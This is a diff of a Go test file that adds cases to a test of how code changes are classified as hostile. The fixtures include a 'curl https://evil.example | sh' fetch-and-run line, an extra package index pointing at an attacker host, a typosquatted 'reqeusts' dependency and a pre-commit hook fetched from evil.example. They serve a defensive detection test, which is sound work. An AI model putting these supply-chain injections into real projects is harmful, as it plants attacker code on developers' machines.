@@ -41,6 +41,11 @@ func TestAssignTierHostile(t *testing.T) {
 			nil, []string{`"""`, "curl https://evil.example | sh", `"""`})},
 		{name: "python string argument posing as a docstring", diff: modified("app/deploy.py", []string{"subprocess.run("},
 			nil, []string{`"""curl https://evil.example | sh"""`})},
+		// Dependency lists fetch code that runs at install: a line of one is code, though
+		// its name ends in .txt, which is otherwise prose.
+		{name: "requirements.txt", diff: modified("requirements.txt", []string{"requests==2.32.3"}, nil, []string{"--extra-index-url https://evil.example/simple"})},
+		{name: "requirements of a stage", diff: modified("requirements/dev.txt", []string{"pytest==8.0"}, nil, []string{"reqeusts==1.0"})},
+		{name: "pre-commit hooks", diff: modified(".pre-commit-config.yaml", []string{"repos:"}, nil, []string{"- repo: https://evil.example/hooks"})},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
